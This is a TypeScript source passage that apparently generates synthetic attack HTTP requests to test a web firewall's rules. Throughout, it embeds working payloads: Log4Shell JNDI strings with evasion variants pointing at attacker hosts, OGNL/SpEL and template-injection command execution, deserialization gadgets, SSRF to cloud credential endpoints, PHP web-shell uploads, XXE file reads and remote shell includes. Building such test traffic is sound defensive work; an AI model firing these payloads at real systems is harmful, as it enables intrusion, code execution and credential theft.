  const carriers: ReadonlyArray<readonly [number, Carrier]> = [[30, 'query'], [20, 'form'], [8, 'json'], [4, 'xml'], [10, 'multipart'], [6, 'cookie'], [2, 'header-ua'], [2, 'header-custom'], [2, 'filename'], [1, 'arg-name']];
  return place(rng, 'php', payload, 'PHP injection', { params: ['data', 'code', 'page', 'input', 'c', 'x', 'content', 'payload', 'q', 'template', 'session'], carriers });
};

// ---------------------------------------------------------------- Java: Log4Shell, OGNL, SpEL, deserialization

function jndi(rng: Rng): string {
  const proto = rng.pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nds', 'http']);
  const h = attackerHost(rng);
  const tail = `${proto}://${h}:${rng.pick(['1389', '389', '1099', '53', '80'])}/${rng.alnum(rng.int(1, 12))}`;
  const form = rng.weighted([[8, 'plain'], [3, 'lower'], [3, 'empty-default'], [2, 'env'], [2, 'upper'], [1, 'date'], [1, 'nested-proto'], [1, 'sys'], [1, 'base64']] as const);
  switch (form) {
    case 'plain': return `\${jndi:${tail}}`;
    case 'lower': return `\${\${lower:j}ndi:${tail}}`;
    case 'empty-default': return `\${\${::-j}\${::-n}\${::-d}\${::-i}:${tail}}`;
    case 'env': return `\${\${env:NaN:-j}ndi\${env:NaN:-:}${tail}}`;
    case 'upper': return `\${\${upper:j}\${upper:n}di:${tail}}`;
    case 'date': return `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:${tail}}`;
    case 'nested-proto': return `\${jndi:\${lower:l}\${lower:d}a\${lower:p}://${h}/${rng.alnum(6)}}`;
    case 'sys': return `\${jndi:${proto}://\${sys:java.version}.${h}/a}`;
    default: return `\${jndi:ldap://${h}/Basic/Command/Base64/${base64('touch /tmp/pwned')}}`;
  }
}

const java: Gen = (rng) => {
  const kind = rng.weighted([[10, 'log4shell'], [4, 'ognl'], [3, 'spel'], [3, 'deser'], [3, 'classloader'], [2, 'runtime']] as const);
  let payload: string;
  let carriers: ReadonlyArray<readonly [number, Carrier]>;
  switch (kind) {
    case 'log4shell':
      payload = jndi(rng);
      if (rng.chance(0.15)) payload = `${rng.pick(['Mozilla/5.0 ', 'user=', 'x '])}${payload}`;
      carriers = [[14, 'header-ua'], [10, 'header-custom'], [6, 'header-referer'], [5, 'header-xff'], [16, 'query'], [10, 'form'], [10, 'json'], [4, 'xml'], [6, 'cookie'], [3, 'multipart'], [2, 'arg-name'], [2, 'path']];
      break;
    case 'ognl':
      payload = rng.pick([
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
        "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).start()}",
        "(#_memberAccess['allowStaticMethodAccess']=true)(#rt=@java.lang.Runtime@getRuntime())", "${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass().getDeclaredField('allowStaticMethodAccess')}",
        `%{${rng.int(10, 99)}*${rng.int(10, 99)}}`, "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}",
      ]);
      carriers = [[12, 'query'], [6, 'form'], [4, 'header-custom'], [3, 'arg-name'], [2, 'multipart'], [2, 'path']];
      break;
    case 'spel':
      payload = rng.pick(["T(java.lang.Runtime).getRuntime().exec('id')", "${T(java.lang.Runtime).getRuntime().exec(\"whoami\")}", "#{T(java.lang.System).getenv()}", "new java.lang.ProcessBuilder({'id'}).start()", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}", '#{7*7}', "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"]);
      carriers = [[12, 'query'], [8, 'form'], [8, 'json'], [3, 'header-custom'], [2, 'multipart']];
      break;
    case 'deser': {
      const head = Buffer.from('aced00057372', 'hex');
      const cls = rng.pick(['org.apache.commons.collections.functors.InvokerTransformer', 'java.util.PriorityQueue', 'sun.reflect.annotation.AnnotationInvocationHandler', 'org.springframework.beans.factory.ObjectFactory', 'com.sun.rowset.JdbcRowSetImpl']);
      const blob = Buffer.concat([head, Buffer.from([0, cls.length]), Buffer.from(cls), Buffer.from('b2dc2c8ba0c5b4a7020000787000000001', 'hex')]);
      payload = rng.pick([blob.toString('base64'), `{"@type":"${cls}","dataSourceName":"ldap://${attackerHost(rng)}/a","autoCommit":true}`, `["${cls}",{"transletBytecodes":["yv66vgAAADQ"],"outputProperties":{}}]`, `<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>`, `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${attackerHost(rng)}/"]]]]`]);
      carriers = [[8, 'form'], [8, 'json'], [5, 'cookie'], [5, 'xml'], [4, 'query'], [3, 'header-custom'], [2, 'multipart']];
      break;
    }
    case 'classloader':
      payload = rng.pick(['class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di', 'class.classLoader.URLs[0]=jar:http://x/a.jar!/', 'class.module.classLoader.DefaultAssertionStatus=true']);
      return { ...place(rng, 'java', 'x', 'Spring4Shell class.module.classLoader', { params: ['x'], carriers: [[1, 'form']] }), encoding: 'raw', body: Buffer.from(`${payload}&name=${rng.lower(5)}`, 'latin1'), note: 'Java Spring4Shell classLoader' };
    default:
      payload = rng.pick(['java.lang.Runtime.getRuntime().exec("id")', 'Class.forName("java.lang.Runtime")', 'java.lang.ProcessBuilder', 'javax.script.ScriptEngineManager', 'java.lang.reflect.Method.invoke', 'org.apache.commons.collections.functors.ChainedTransformer', 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl']);
      carriers = [[10, 'query'], [10, 'form'], [8, 'json'], [4, 'xml'], [3, 'header-custom']];
  }
  return place(rng, 'java', payload, `Java ${kind}`, { params: ['q', 'name', 'data', 'input', 'redirect', 'action', 'message', 'user', 'x', 'template', 'expr'], carriers });
};

// ---------------------------------------------------------------- SSRF

const ssrf: Gen = (rng) => {
  const payload = rng.pick([
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://169.254.169.254/latest/user-data', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
    `http://127.0.0.1:${rng.pick([22, 25, 6379, 8080, 9200, 11211, 2375, 3306])}/`, 'http://localhost/server-status', `http://[::1]:${rng.int(80, 9000)}/`, 'http://0x7f000001/', 'http://2130706433/', 'http://0177.0.0.1/', 'http://127.1/admin',
    'http://0/', 'gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22', 'dict://127.0.0.1:11211/stats', 'file:///etc/passwd', 'http://10.0.0.5/admin', 'http://192.168.1.1/cgi-bin/luci', 'http://169.254.170.2/v2/credentials',
    'http://100.100.100.200/latest/meta-data/', 'http://localtest.me/', 'http://127.0.0.1.nip.io/', 'http://user@127.0.0.1:8080/', 'http://[0:0:0:0:0:ffff:127.0.0.1]/', 'jar:http://127.0.0.1!/', 'ldap://127.0.0.1:389/', 'http://instance-data/latest/meta-data/',
    'tftp://203.0.113.1/x', 'sftp://203.0.113.1:22/', 'http://①②⑦.⓪.⓪.①/', 'http://0x7f.0x0.0x0.0x1/', 'http://017700000001/',
  ]);
  const carriers: ReadonlyArray<readonly [number, Carrier]> = [[40, 'query'], [15, 'form'], [15, 'json'], [4, 'xml'], [4, 'multipart'], [3, 'header-custom'], [3, 'cookie']];
  return place(rng, 'ssrf', utf8(payload), 'SSRF', { params: ['url', 'uri', 'callback', 'redirect', 'next', 'dest', 'feed', 'image_url', 'webhook', 'proxy', 'target', 'link', 'src', 'host'], carriers, urlEncodings: [[10, 'raw'], [6, 'component'], [2, 'form'], [1, 'full']] });
};

// ---------------------------------------------------------------- Node / prototype pollution / template injection

const nodeTemplate: Gen = (rng) => {
  const kind = rng.weighted([[5, 'proto-query'], [4, 'proto-json'], [4, 'node-rce'], [6, 'ssti']] as const);
  if (kind === 'proto-query') {
    const name = rng.pick(['__proto__[isAdmin]', '__proto__.polluted', 'constructor[prototype][admin]', 'constructor.prototype.x', '__proto__[outputFunctionName]', '__proto__[toString]']);
    return place(rng, 'node', name, 'prototype pollution in argument name', { params: ['x'], carriers: [[3, 'arg-name']], urlEncodings: [[5, 'raw'], [3, 'component'], [1, 'full']] });
  }
  if (kind === 'proto-json') {
    const body = rng.pick([`{"__proto__":{"isAdmin":true}}`, `{"user":{"constructor":{"prototype":{"role":"admin"}}}}`, `{"a":1,"__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');s"}}`, `[{"__proto__":{"polluted":"yes"}}]`]);
    const r = place(rng, 'node', 'x', 'prototype pollution in JSON', { params: ['x'], carriers: [[1, 'json']] });
    return { ...r, body: Buffer.from(body, 'latin1'), encoding: 'json', carrier: 'json' };
  }
  const payload = kind === 'node-rce'
    ? rng.pick(["require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('cat /etc/passwd')", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd')", "global.process.binding('spawn_sync')", "require('fs').readdirSync('.')", '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()', "new Function('return this')().process.exit()", "Object.constructor.constructor('return require')()('child_process')"])
    : rng.pick(['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", '{% import os %}{{ os.system("id") }}', "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '{{range.constructor("return global.process.mainModule.require(\'child_process\').execSync(\'id\')")()}}', "${{<%[%'\"}}%\\.", '{{self.__init__.__globals__.__builtins__}}', '@(1+2)', '{php}echo `id`;{/php}', "__import__('os').system('id')", "eval(compile('import os;os.system(\"id\")','x','exec'))"]);
  return place(rng, 'node', payload, `${kind}`, { params: ['name', 'template', 'q', 'msg', 'greeting', 'title', 'expr', 'tpl'], carriers: [[30, 'query'], [15, 'form'], [12, 'json'], [4, 'multipart'], [3, 'header-custom'], [3, 'cookie']] });
};

// ---------------------------------------------------------------- session fixation

const sessionFixation: Gen = (rng) => {
  const sid = rng.pick(['PHPSESSID', 'JSESSIONID', 'ASPSESSIONID', 'sessionid', 'sid', 'ASP.NET_SessionId']);
  const kind = rng.pick(['query-sid', 'set-cookie', 'meta']);
  if (kind === 'query-sid') {
    const headers = browserHeaders(rng, { referer: `https://${attackerHost(rng)}/landing` });
    return { kind: 'attack', family: 'session-fixation', carrier: 'query', encoding: 'raw', method: 'GET', target: `${benignPath(rng)}?${sid}=${rng.alnum(26)}`, version: 'HTTP/1.1', headers, note: 'session id in query with foreign referer' };
  }
  const payload = kind === 'set-cookie' ? rng.pick([`document.cookie="${sid}=${rng.alnum(20)}"`, `\r\nSet-Cookie: ${sid}=${rng.alnum(20)}`, `<script>document.cookie="${sid}=x; path=/"</script>`]) : `<meta http-equiv="Set-Cookie" content="${sid}=${rng.alnum(20)}">`;
  return place(rng, 'session-fixation', payload, `session fixation ${kind}`, { params: ['q', 'lang', 'next', 'msg'], carriers: [[5, 'query'], [2, 'form'], [1, 'json']] });
};

// ---------------------------------------------------------------- generic (mixed) attacks in any carrier

const generic: Gen = (rng) => {
  const fam = rng.pick([sqliPayload, xssPayload, cmdPayload]);
  const { payload, note } = fam(rng);
  return place(rng, 'mixed', payload, `${note} (any carrier)`, { params: ['data', 'value', 'v', 'input', 'field', 'p'], carriers: ALL_CARRIERS });
};

// ---------------------------------------------------------------- scanners and probes

const scanner: Gen = (rng) => {
  const kind = rng.weighted([[6, 'ua'], [6, 'probe-path'], [2, 'ua-probe']] as const);
  const ua = rng.pick([
    'sqlmap/1.7.12#stable (https://sqlmap.org)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 (Nuclei)', 'Fuzz Faster U Fool v2.1.0-dev', 'gobuster/3.6',
    'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'Mozilla/5.0 (compatible; Nessus)', 'OpenVAS-VT', 'Acunetix-Product', 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) w3af.org', 'Arachni/v1.5.1', 'jaeles', 'zgrab/0.x', 'Wfuzz/3.1.0',
    'nikto', 'Mozilla/5.0 zgrab/0.x', 'commix/v3.9-stable', 'Hydra', 'ZmEu', 'dirsearch', 'feroxbuster/2.10.1', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 'Expanse, a Palo Alto Networks company, searches across the global IPv4 space',
  ]);
  const probe = rng.pick([
    '/.env', '/.git/config', '/.git/HEAD', '/wp-config.php.bak', '/config.php~', '/backup.sql', '/db.sql.gz', '/web.config', '/.htaccess', '/.htpasswd', '/server-status', '/phpinfo.php', '/admin/config.yml', '/.DS_Store', '/.svn/entries',
    '/WEB-INF/web.xml', '/actuator/env', '/actuator/heapdump', '/.aws/credentials', '/id_rsa', '/etc/passwd', '/debug/pprof/', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/test-cgi', '/index.php.bak', '/site.tar.gz', '/.well-known/../.env', '/database.yml', '/.bash_history', '/config.inc', '/_profiler/phpinfo',
    '/solr/admin/info/system', '/console/', '/manager/html', '/jmx-console/', '/.vscode/sftp.json', '/.npmrc', '/composer.lock', '/docker-compose.yml', '/app.config', '/Web.config.old', '/install.php', '/setup.cgi', '/login.asp', '/default.ida', '/msadc/msadcs.dll', '/_vti_bin/shtml.dll',
  ]);
  let headers;
  let target: string;
  if (kind === 'ua') {
    headers = rng.chance(0.5) ? toolHeaders(rng, { ua }) : browserHeaders(rng, { referer: null });
    const i = headers.findIndex(([n]) => n === 'User-Agent');
    headers[i] = ['User-Agent', ua];
    target = benignPath(rng);
  } else if (kind === 'probe-path') {
    headers = toolHeaders(rng);
    target = probe;
  } else {
    headers = toolHeaders(rng, { ua });
    target = probe;
  }
  return { kind: 'attack', family: 'scanner', carrier: kind === 'probe-path' ? 'path' : 'header-ua', encoding: 'plain', method: rng.chance(0.9) ? 'GET' : 'HEAD', target, version: 'HTTP/1.1', headers, note: `scanner ${kind}: ${kind === 'probe-path' ? probe : ua.slice(0, 40)}` };
};

// ---------------------------------------------------------------- upload attacks

const upload: Gen = (rng) => {
  const boundary = `----WebKitFormBoundary${rng.alnum(16)}`;
  const name = rng.pick(['shell.php', 'image.php.jpg', 'x.phtml', 'cmd.jsp', 'a.asp;.jpg', '.htaccess', 'web.config', 'shell.php5', 'test.pHp', 'avatar.jpg.php', 'x.aspx', 'evil.svg', '../../../var/www/html/s.php', 'file.php%00.png', 'exploit.war', 'run.sh', 'payload.exe', 'x.shtml']);
  const content = rng.pick(['<?php system($_GET["c"]); ?>', 'GIF89a<?php echo 1; ?>', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', 'AddType application/x-httpd-php .jpg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', '#!/bin/sh\nid\n', 'MZ\x90\x00\x03\x00\x00\x00', '<!--#exec cmd="id" -->', 'hello']);
  const body = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="upload"; filename="${name}"\r\nContent-Type: ${rng.pick(['image/jpeg', 'application/x-php', 'application/octet-stream', 'image/svg+xml', 'text/plain'])}\r\n\r\n${content}\r\n--${boundary}\r\nContent-Disposition: form-data; name="submit"\r\n\r\nUpload\r\n--${boundary}--\r\n`, 'latin1');
  return { kind: 'attack', family: 'upload', carrier: 'filename', encoding: 'multipart', method: 'POST', target: rng.pick(['/upload.php', '/wp-admin/async-upload.php', '/media/upload', '/api/files']), version: 'HTTP/1.1', headers: browserHeaders(rng, { contentType: `multipart/form-data; boundary=${boundary}` }), body, note: `upload ${name}` };
};

// ---------------------------------------------------------------- XXE / XML attacks

const xxe: Gen = (rng) => {
  const h = attackerHost(rng);
  const body = rng.pick([
    `<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>`,
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://${h}/evil.dtd"> %x;]><r>1</r>`,
    `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`,
    `<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://${h}/x.dtd"><data>&send;</data>`,
    `<?xml version="1.0"?><root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></root>`,
    `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>`,
    `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]><creds><user>&xxe;</user></creds>`,
  ]);
  return { kind: 'attack', family: 'xxe', carrier: 'xml', encoding: 'xml', method: 'POST', target: rng.pick(['/api/xml', '/soap/Service', '/upload/xml', '/xmlrpc.php']), version: 'HTTP/1.1', headers: toolHeaders(rng, { contentType: rng.pick(['application/xml', 'text/xml']) }), body: Buffer.from(body, 'latin1'), note: 'XXE' };
};

// ---------------------------------------------------------------- payloads only the raw body shows

/**
 * Attacks in places no argument covers: uploaded file content, XML comments and processing
 * instructions, multipart part headers. Only rules reading REQUEST_BODY (or FILES_*) see them.
 */
const rawBody: Gen = (rng) => {
  const h = attackerHost(rng);
  const payload = rng.pick([
    'Runtime rt = java.lang.Runtime.getRuntime(); rt.exec(cmd);', 'new java.lang.ProcessBuilder("sh", "-c", cmd).start();', 'org.apache.commons.collections.functors.InvokerTransformer',
    `\xac\xed\x00\x05sr\x00\x11java.util.HashMap`, 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', `GET /admin HTTP/1.1\r\nHost: ${h}\r\n\r\n`, `POST /internal/api HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nx=1`,
    "include($_GET['page']);", '<?php include("http://' + h + '/shell.txt"); ?>', 'mosConfig_absolute_path=http://' + h + '/x?', 'filter[name__startswith]=a&x=__proto__', '%uff1cscript%uff1e',
  ]).replace(/\\x([0-9a-f]{2})/g, (_m, x: string) => String.fromCharCode(parseInt(x, 16))).replace(/\\r\\n/g, '\r\n');
  const where = rng.pick(['file', 'file', 'xml-comment', 'xml-pi', 'part-header']);
  const boundary = `----WebKitFormBoundary${rng.alnum(16)}`;
  let body: string;
  let ct: string;
  if (where === 'file') {
    ct = `multipart/form-data; boundary=${boundary}`;
    body = `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${rng.pick(['notes', 'report', 'import'])}\r\n--${boundary}\r\nContent-Disposition: form-data; name="upload"; filename="${rng.pick(['notes.txt', 'data.bin', 'App.java', 'payload.ser', 'request.txt'])}"\r\nContent-Type: ${rng.pick(['text/plain', 'application/octet-stream', 'text/x-java'])}\r\n\r\n${payload}\r\n--${boundary}--\r\n`;
  } else if (where === 'part-header') {
    ct = `multipart/form-data; boundary=${boundary}`;
    body = `--${boundary}\r\nContent-Disposition: form-data; name="a"\r\nX-Note: ${payload.replace(/[\r\n]+/g, ' ')}\r\n\r\nhello\r\n--${boundary}--\r\n`;
  } else {
    ct = rng.pick(['application/xml', 'text/xml']);
    body = where === 'xml-comment'
      ? `<?xml version="1.0"?>\n<!-- ${payload.replace(/--/g, '- -')} -->\n<order id="${rng.int(1, 999)}"><item>book</item></order>`
      : `<?xml version="1.0"?>\n<?note ${payload.replace(/\?>/g, '? >')}?>\n<order id="${rng.int(1, 999)}"><item>book</item></order>`;
  }
  return { kind: 'attack', family: 'raw-body', carrier: where, encoding: 'raw', method: 'POST', target: rng.pick(['/upload', '/api/import', '/submit', '/documents']), version: 'HTTP/1.1', headers: toolHeaders(rng, { contentType: ct }), body: Buffer.from(body, 'latin1'), note: `payload in ${where}: ${payload.slice(0, 40)}` };
};

export const ATTACKS: Array<[number, string, Gen]> = [
  [24, 'sqli', sqli],
  [18, 'xss', xss],
  [11, 'lfi', lfi],
  [4, 'rfi', rfi],
  [11, 'rce', rce],
  [6, 'php', php],
  [8, 'java', java],
  [5, 'ssrf', ssrf],
  [5, 'node', nodeTemplate],
  [2, 'session-fixation', sessionFixation],
  [6, 'mixed', generic],
  [5, 'scanner', scanner],
  [3, 'upload', upload],
  [2, 'xxe', xxe],
  [4, 'raw-body', rawBody],
];

export { host };
